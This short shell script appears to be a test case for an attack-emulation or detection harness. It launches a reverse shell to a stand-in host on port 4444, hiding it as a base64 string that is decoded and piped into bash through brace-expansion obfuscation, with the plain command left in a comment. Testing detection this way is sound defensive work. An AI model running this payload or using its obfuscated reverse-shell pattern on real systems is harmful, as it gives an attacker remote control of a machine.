#!/bin/sh
. /opt/case/case.sh

# bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
line=YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTAvNDQ0NCAwPiYxCg==
nohup bash -c "{echo,$line}|{base64,-d}|{bash,-i}" >/dev/null 2>&1 &
wait_for /tmp/reached
took_place
